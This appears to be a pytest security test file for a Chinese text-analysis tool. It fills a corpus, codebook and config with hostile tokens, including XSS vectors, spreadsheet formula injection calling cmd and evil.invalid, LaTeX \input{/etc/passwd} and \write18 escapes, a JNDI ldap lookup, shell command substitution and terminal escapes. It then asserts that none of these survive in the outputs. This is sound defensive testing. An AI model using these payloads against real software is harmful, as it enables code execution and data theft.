"""A corpus that means harm: scripts, formulas, macros, escapes of the terminal. Nothing of it comes alive anywhere."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import redirect_stderr, redirect_stdout, suppress
from pathlib import Path
from typing import Any, NamedTuple
from xml.etree import ElementTree

import pytest

from govtext.__main__ import main
from govtext.cli import COMMANDS
from govtext.cli.options import FORMATS as FORMS
from govtext.files import DATA

from .output.test_topic_map import BROWSERS, _without

Run = Callable[..., Any]
ESCAPES = "\x1b[31m\x1b]0;owned\x07\x9b2J\x08\r"  # colour, title of the window, C1, backspace
# Without blanks, so that each is one token of a text that is segmented by blanks.
TOKENS = [
    "<script>window.struck=1;alert(1)</script>",
    '"><img/src=x/onerror=window.struck=1>',
    "]]></style></script><svg/onload=window.struck=1>",
    "javascript:window.struck=1",
    "<a/href=javascript:window.struck=1>甲</a>",
    "[点这里](javascript:window.struck=1)",
    "![图](http://evil.invalid/x.png)",
    "http://evil.invalid/?q=1",
    "=cmd|'/C_calc'!A0",
    '=HYPERLINK("http://evil.invalid","甲")',
    "+1+cmd|'/C'!A0",
    "-2+3+cmd|'/C'!A0",
    "@SUM(1+1)*cmd|'/C'!A0",
    "\\input{/etc/passwd}",
    "\\write18{touch${IFS}canary}",
    "\\immediate\\openout1=canary",
    "$x^2_1$",
    "100%的",
    "a&b",
    "{花括号}",
    "}@article{evil,title={x}}",
    "${jndi:ldap://evil.invalid/x}",
    "`touch${IFS}canary`$(touch${IFS}canary)",
    "治\u202e理\u202c",
    "\u2066右\u2069",
    "甲|乙",
    "**粗**_斜_`码`",
    "<!--",
    "--><b>",
    "&lt;script&gt;",
    "&#x3c;script&#x3e;",
    "{{7*7}}${7*7}<%=7*7%>",
    "../../../canary",
    f"红{ESCAPES}色",
]
FIELD = (
    '<script>window.struck=1</script>"><img src=x onerror=window.struck=1>]]>\\input{/etc/passwd}$(touch canary)'
    "\x1b[31m\u202e"
)
PRINTED = "".join(sign for sign in FIELD if sign.isprintable())  # codebooks and lexicons let nothing else in
SAFE_SOURCES = ("甲-1", "b_2", "丙")


def toml(text: str) -> str:
    """Return a text as TOML writes it, every sign by its number."""
    return '"' + "".join(f"\\U{ord(sign):08x}" for sign in text) + '"'


def texts() -> list[str]:
    """Return three texts of some paragraphs; what is hostile comes often enough to be counted, ranked and quoted."""
    made = []
    for place in range(3):
        own = TOKENS[place::3]
        lines = []
        for round_ in range(6):
            for first, second in zip(TOKENS, [*TOKENS[1:], TOKENS[0]], strict=True):
                lines.append(
                    f"治理 {first} 应当 防范 {second} 风险 {own[round_ % len(own)]} 国家 必须 遵守 《 {first} 》 。"
                )
        made.append("\n\n".join(lines))
    return made


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Make the study: every place that holds data holds harm."""
    root = tmp_path_factory.mktemp("hostile") / "study"
    for folder in ("corpus", "stopwords", "lexicon/codebooks"):
        (root / folder).mkdir(parents=True)
    parts = [f"[study]\ntitle = {toml(FIELD)}\n[tokens]\nengine = 'whitespace'\nstopwords = 'govtext,study'\n"]
    for place, (name, text) in enumerate(zip(SAFE_SOURCES, texts(), strict=True)):
        (root / "corpus" / f"{place}.txt").write_text(text, encoding="utf-8", newline="\n")
        own = [f"{key} = {toml(f'{TOKENS[place + at]}{FIELD}{place}')}" for at, key in enumerate(FIELDS)]
        own += [f"year = {2020 + place}", f"{toml(FIELD[:20])} = {toml('=1+1' + FIELD)}"]
        parts.append(f"[[source]]\nid = '{name}'\nfile = 'corpus/{place}.txt'\n" + "\n".join(own) + "\n")
    parts.append(STEPS)
    (root / "govtext.toml").write_text("\n".join(parts), encoding="utf-8")
    (root / "stopwords" / "own.txt").write_text("\n".join(TOKENS[:2]) + "\n", encoding="utf-8")
    words = [token for token in TOKENS if token.isprintable() and not re.search(r"[;!?<*\[_`&]|http", token)]
    rows = [f"{word}\t{PRINTED}{word}\tconcept\t\t" for word in words]
    (root / "lexicon" / "terms.tsv").write_text("term\tgloss\tcategory\taliases\tboundary\n" + "\n".join(rows), "utf-8")
    (root / "lexicon" / "codebooks" / "own.toml").write_text(codebook(), encoding="utf-8")
    return root


FIELDS = ("label", "title", "institution", "authors", "genre", "language")
STEPS = "".join(
    f'[[step]]\ncommand = "{command}"\ncharts = "svg"\n{more}\n'
    for command, more in {
        "freq": "gloss = true\nfeatures = 'all'",
        "compare": "by = 'genre'\nmin-count = 1",
        "kwic": "pattern = '应当'",
        "topics": "k = 2\nruns = 2\nrefits = 2\npasses = 20\nmin-tokens = 5\nmin-units = 2",
        "frames": "codebook = 'own'",
        "citations": "",
    }.items()
)


def codebook() -> str:
    """Return a codebook whose words are hostile."""
    codes = [
        f"[[code]]\nid = 'c{place}'\nlabel = {{ en = {toml(token + PRINTED)}, zh = {toml(token)} }}\n"
        f"definition = {{ en = {toml(PRINTED)}, zh = {toml(PRINTED)} }}\n"
        f"indicators = [{toml(json.dumps(token))}, '风险']\n"
        for place, token in enumerate(token for token in TOKENS[:9] if token.isprintable())
    ]
    head = (
        f"[codebook]\nid = 'own'\nlabel = {{ en = {toml(PRINTED)}, zh = {toml(PRINTED)} }}\nsource = {toml(PRINTED)}\n"
    )
    return head + "\n".join(codes)


QUICK = "--k 2 --runs 2 --refits 2 --passes 20 --min-tokens 5 --min-units 2"
LINES = [
    "segment",
    "segment --engine jieba",
    "terms --min-count 2",
    "freq --features all --gloss",
    "freq --by genre --evidence 2",
    "freq --diversity",
    "keywords --method all",
    "compare --by genre --min-count 1 --table keyness",
    "kwic 应当",
    "kwic <script> --substring --by genre",
    "kwic .*治.* --regex --table hits",
    "collocates 应当 --min-count 1",
    "ngrams --min-count 2",
    "dispersion --term 治理 --term <script>window.struck=1;alert(1)</script>",
    f"topics {QUICK} --table quotes",
    f"topics {QUICK} --engine jieba --by genre",
    "frames --codebook own",
    "frames --table coded",
    "frames --mutual",
    "actors",
    "citations",
    "modality",
]
IN_ALL_FORMS = [line for line in LINES if line in ("freq --by genre --evidence 2", "kwic 应当", "citations")]
COMPILED = ["freq --by genre --evidence 2", "kwic 应当", "citations", "corpus list"]
LOOKS = [
    "corpus list",
    "corpus audit --html audit.html",
    "corpus duplicates",
    "corpus show 甲-1",
    *(f"corpus show b_2 --part {part}" for part in ("sections", "paragraphs", "apart", "removed", "rules", "tables")),
    "stopwords show own",
    "stopwords diff own govtext",
    "codebook list",
    "codebook show own",
    "codebook lint own",
    "codebook test own",
]
FORMATS = ("table", "csv", "json", "md", "latex", "html")
MACHINE = ("csv", "json")
CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
TURNS = re.compile("[\u202a-\u202e\u2066-\u2069]")
REFERENCES = (DATA / "references.bib").read_text("utf-8")
OWN_LINKS = re.compile("|".join(f"<{re.escape(link)}>" for link in re.findall(r"url = \{(.+?)\}", REFERENCES)))
NUMBER = re.compile(r"[-+]?(\d[\d,]*)?\.?\d+([eE][-+]?\d+)?%?\Z")


class Answer(NamedTuple):
    """What a command line said."""

    line: str
    form: str
    out: str
    err: str


def asked(line: str, form: str = "", *more: str) -> Answer:
    """Run a command line in this process; it must work, or find nothing."""
    out, err = io.TextIOWrapper(io.BytesIO(), "utf-8", newline=""), io.StringIO()
    words = [*line.split(" "), *(["--format", form] if form else []), *more]
    with redirect_stdout(out), redirect_stderr(err):
        code = main(words)
        out.flush()
    allowed = (0, 1, 3) if line == "verify" else (0, 1)  # what `run` did not write lies beside its outputs
    assert code in allowed, (words, err.getvalue())
    return Answer(line, form, out.buffer.getvalue().decode("utf-8"), err.getvalue())


@pytest.fixture(scope="module")
def answers(hostile: Path) -> list[Answer]:
    """Run every command, write its files, and have its table in every form; then the whole study, as `run` does."""
    before, said = Path.cwd(), []
    os.chdir(hostile)
    try:
        said += [asked(line, "csv", "--charts", "svg") for line in LINES]
        said += [asked(line, form, "--no-save") for line in LINES if line in IN_ALL_FORMS for form in FORMATS]
        for line in LOOKS:
            forms = ("",) if "--html" in line or line == "corpus show 甲-1" else ("table", "latex", "html")
            said += [asked(line, form) for form in forms]
        said.append(asked("run"))
        said += [asked(name) for name in ("verify", "report") if name in COMMANDS]
    finally:
        os.chdir(before)
    return said


def files(study: Path, *endings: str) -> list[Path]:
    """Return what was written with these endings."""
    found = [path for path in (study / "outputs").rglob("*") if path.suffix in endings and "inputs" not in path.parts]
    return sorted([*found, *(path for path in study.glob("*.html") if path.suffix in endings)])


def test_no_sign_that_steers_reaches_a_reader(answers: list[Answer]) -> None:
    for answer in answers:
        shown = f"{answer.line} --format {answer.form}"
        assert not CONTROLS.search(answer.err.replace("\r", "")), f"{shown}: {answer.err!r}"
        assert not TURNS.search(answer.err), f"{shown}: {answer.err!r}"
        if answer.form in FORMATS and answer.form not in MACHINE:
            found = CONTROLS.search(answer.out) or TURNS.search(answer.out)
            assert not found, f"{shown}: {answer.out[max(0, found.start() - 60) : found.end() + 20]!r}"


def test_a_terminal_is_not_steered(hostile: Path) -> None:
    program = "import sys; from govtext.__main__ import main; sys.exit(main())"
    for line in ("freq --format csv --no-save", "corpus list --format json", "corpus show 甲-1"):
        words = [sys.executable, "-c", program, *line.split()]
        leader, follower = pty.openpty()
        process = subprocess.Popen(words, cwd=hostile, stdin=follower, stdout=follower, stderr=follower, env=PAGED)
        os.close(follower)
        said = b""
        with suppress(OSError):
            while data := os.read(leader, 65536):
                said += data
        os.close(leader)
        assert process.wait(60) == 0
        text = said.decode("utf-8").replace("\r\n", "\n").replace("\x1b[1m", "").replace("\x1b[0m", "")
        assert "治理" in text or "甲" in text
        assert not CONTROLS.search(text.replace("\x1b[4m", "")), line


PAGED = {**os.environ, "PAGER": "cat", "PYTHONIOENCODING": "utf-8"}


def test_no_cell_of_a_csv_file_is_a_formula(answers: list[Answer], hostile: Path) -> None:
    found = files(hostile, ".csv")
    assert len(found) > 20
    for path in found:
        for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))):
            live = [cell for cell in row if cell[:1] in "=+-@\t\r" and cell and not NUMBER.match(cell) and cell != "-"]
            assert not live, f"{path.name}: {live[0]!r}"


def test_machine_forms_are_whole(answers: list[Answer], hostile: Path) -> None:
    for answer in answers:
        if answer.form == "json" and answer.out:
            json.loads(answer.out)
    for path in files(hostile, ".json"):
        json.loads(path.read_text("utf-8"))


def live(tree: Any) -> Iterator[str]:
    """Yield what is live in a tree of HTML or XML: handlers, scripts without a hash, links that leave the page."""
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rpartition("}")[2].lower()
        if tag in ("iframe", "object", "embed", "base", "form", "foreignobject", "animate", "set"):
            yield f"<{tag}>"
        for key, value in element.attrib.items():
            name = key.rpartition("}")[2].lower()
            if name.startswith("on"):
                yield f"{name} of <{tag}>"
            if name in ("href", "src", "action", "srcdoc", "data") and not re.match(r"#|data:image/|[\w./-]+\Z", value):
                yield f"{name}={value[:60]}"


def test_pages_hold_no_live_mark(answers: list[Answer], hostile: Path) -> None:
    from lxml import html

    pages = {path.name: path.read_text("utf-8") for path in files(hostile, ".html")}
    assert {"audit.html", "topic_map.html", "report.html"} <= set(pages)
    pages |= {f"{answer.line} (html)": answer.out for answer in answers if answer.form == "html" and answer.out.strip()}
    for name, page in pages.items():
        tree = html.document_fromstring(page)
        assert list(live(tree)) == [], name
        assert not CONTROLS.search(page), name
        assert not TURNS.search(page), name
        scripts = [script for script in tree.iter("script") if script.get("type") != "application/json"]
        for script in scripts:
            assert "struck" not in (script.text or ""), name
        if scripts:
            assert "default-src 'none'" in page, name
            assert "sha256-" in page, name


def test_drawings_and_graphs_are_whole_xml(answers: list[Answer], hostile: Path) -> None:
    found = files(hostile, ".svg", ".graphml")
    assert {path.suffix for path in found} == {".svg", ".graphml"}
    for path in found:
        tree = ElementTree.fromstring(path.read_text("utf-8"))
        assert not [element for element in tree.iter() if str(element.tag).endswith("}script")], path.name
        outside = [one for one in live(tree) if "w3.org" not in one and "matplotlib.org" not in one]
        assert outside == [], path.name


def test_pages_in_markdown_show_what_they_quote(answers: list[Answer], hostile: Path) -> None:
    pages = {path.name: path.read_text("utf-8") for path in files(hostile, ".md")}
    pages |= {f"{answer.line} (md)": answer.out for answer in answers if answer.form == "md"}
    for name, page in pages.items():
        page = OWN_LINKS.sub("", page)
        code = re.sub(r"(?<!\\)(`+)(?!`).+?(?<!`)\1(?!`)", "", re.sub(r"\A<!--.*?-->\n", "", page), flags=re.DOTALL)
        raw = re.search(r".{0,20}(?<!\\)<(?!https://doi.org/)[A-Za-z/!?].{0,20}", code)
        assert not raw, f"{name}: {raw}"
        links = re.findall(r"(?<!\\)\](?<!\\)\(([^)]*)\)", code)
        assert all(re.fullmatch(r"[\w./-]+", link) for link in links), f"{name}: {links}"
        assert not CONTROLS.search(page), name
        assert not TURNS.search(page), name


def test_latex_runs_nothing(answers: list[Answer]) -> None:
    for answer in answers:
        if answer.form == "latex":
            body = "\n".join(line for line in answer.out.splitlines() if not line.startswith("%"))
            for command in (r"\input", r"\write", r"\openout", r"\immediate", r"\include"):
                assert command not in body, answer.line
            assert not re.search(r"(?<!\\)\$(?!\\)", body), answer.line


def test_latex_compiles(answers: list[Answer], tmp_path: Path) -> None:
    xelatex = shutil.which("xelatex")
    if not xelatex or subprocess.run(["kpsewhich", "ctex.sty"], capture_output=True, check=False).returncode:
        pytest.skip("XeLaTeX with ctex is not installed")
    tables = [answer.out for answer in answers if answer.form == "latex" and answer.line in COMPILED]
    assert len(tables) == len(COMPILED)
    head = "\\documentclass{ctexart}\n\\usepackage{array,booktabs,longtable}\n\\begin{document}\n"
    (tmp_path / "p.tex").write_text(head + "\n\n".join(tables) + "\n\\end{document}\n", encoding="utf-8")
    line = [xelatex, "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", "-recorder", "p.tex"]
    done = subprocess.run(line, cwd=tmp_path, capture_output=True, check=False, timeout=120)
    assert done.returncode == 0, done.stdout.decode("utf-8", "replace")[-2000:]
    assert "passwd" not in (tmp_path / "p.fls").read_text("utf-8", errors="replace")
    assert sorted(path.name for path in tmp_path.iterdir() if path.suffix not in (".fls", ".log")) == [
        "p.aux",
        "p.pdf",
        "p.tex",
    ]


def test_workbooks_hold_text(hostile: Path, answers: list[Answer], monkeypatch: pytest.MonkeyPatch) -> None:
    import openpyxl

    monkeypatch.chdir(hostile)
    if "xlsx" not in FORMS:
        pytest.skip("there is no --format xlsx yet")
    for line in ("corpus list", "freq --by genre", "kwic 应当"):
        out = io.BytesIO()
        with redirect_stdout(io.TextIOWrapper(out, "utf-8")), redirect_stderr(io.StringIO()):
            assert main([*line.split(" "), "--format", "xlsx"]) == 0
            sys.stdout.flush()
            book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert any(str(cell.value).startswith("治理") or "甲" in str(cell.value) for cell in cells)
        assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]


def test_the_bibliography_has_its_own_entries_only(hostile: Path, answers: list[Answer]) -> None:
    path = hostile / "outputs" / "references.bib"
    if not path.exists():
        pytest.skip("run writes no references yet")
    text = path.read_text("utf-8")
    assert not re.search(r"^@\w+\{evil", text, re.MULTILINE)
    assert not re.search(r"\\(input|write|immediate)", text)
    assert not CONTROLS.search(text)
    assert text.count("{") == text.count("}")


def test_nothing_was_written_anywhere_else(hostile: Path, answers: list[Answer]) -> None:
    known = {"corpus", "stopwords", "lexicon", "outputs", ".govtext", "govtext.toml", "audit.html"}
    assert {path.name for path in hostile.iterdir()} - {"report.html"} == known
    assert [path.name for path in hostile.parent.iterdir()] == ["study"]
    assert not list(hostile.rglob("*canary*"))


def test_a_codebook_with_hidden_signs_is_refused(hostile: Path, tmp_path: Path, govtext: Run) -> None:
    path = tmp_path / "own.toml"
    path.write_text(codebook().replace("id = 'c1'", f"id = 'c1'\nnote = {toml(ESCAPES)}"), encoding="utf-8")
    outcome = govtext("codebook", "show", path)
    assert outcome.code in (2, 3)
    assert not CONTROLS.search(outcome.err)


def test_a_text_of_zero_bytes_is_refused(tmp_path: Path, govtext: Run) -> None:
    path = tmp_path / "zero.txt"
    path.write_bytes("治理\x00\x00风险。".encode())
    outcome = govtext("freq", path)
    assert outcome.code == 3
    assert not CONTROLS.search(outcome.err)


# Open what is folded, sort, ask for the places behind numbers and for their paragraphs, filter: what scripts write.
PRESS = """async () => {
  const press = (what, most) => [...document.querySelectorAll(what)].slice(0, most).forEach((one) => one.click());
  const rest = () => new Promise((done) => setTimeout(done, 50));
  document.querySelectorAll("details").forEach((one) => { one.open = true; });
  const wait = () => document.querySelector(".table") && !document.querySelector(".go");
  for (let turn = 0; turn < 40 && wait(); turn += 1) await rest();
  press("button:not(.go):not(.sort), .sort", 60);
  [...document.querySelectorAll("tr")].map((row) => row.querySelector(".go")).filter(Boolean).slice(0, 40)
    .forEach((one) => one.click());
  press("button.reference", 120);
  for (const field of document.querySelectorAll("input:not([type=checkbox]):not([type=range])")) {
    field.value = "<"; field.dispatchEvent(new Event("input", { bubbles: true }));
  }
  await rest();
  return [document.querySelectorAll(".evidence mark").length, document.body?.innerText ?? ""];
}"""
ADD_A_SCRIPT = """() => {
  const script = document.createElement("script");
  script.textContent = "window.struck = 2";
  document.body.append(script);
  location.hash = "<img src=x onerror=window.struck=3>";
}"""


def test_a_browser_is_not_struck(hostile: Path, answers: list[Answer], tmp_path: Path) -> None:
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        _without("playwright is not installed: pip install 'govtext[test]'")
    path = next(filter(None, map(shutil.which, BROWSERS)), None)
    if path is None:
        _without("no browser is installed")
    for number, answer in enumerate(answer for answer in answers if answer.form == "html" and answer.out):
        (tmp_path / f"{number}.html").write_text(f"<!doctype html><meta charset=utf-8>{answer.out}", encoding="utf-8")
    pages = [*files(hostile, ".html", ".svg"), *tmp_path.glob("*.html")]
    with sync_playwright() as started:
        browser = started.chromium.launch(executable_path=path, args=["--no-sandbox"])
        page = browser.new_context(offline=True).new_page()
        seen: list[str] = []
        page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: seen.append(request.url))
        for file in pages:
            seen.clear()
            page.goto(file.as_uri())
            places, said = page.evaluate(PRESS)
            assert not CONTROLS.search(said), file.name
            assert not TURNS.search(said), file.name
            if file.name == "report.html":
                assert places, "no place behind a number was opened"
            if file.suffix == ".html" and file.parent != tmp_path:
                page.evaluate(ADD_A_SCRIPT)  # the policy of the page lets in no script but its own
            assert page.evaluate("window.struck === undefined"), file.name
            left = [url for url in seen if url.partition("#")[0] != file.as_uri() and not url.startswith("data:")]
            assert left == [], file.name
        browser.close()
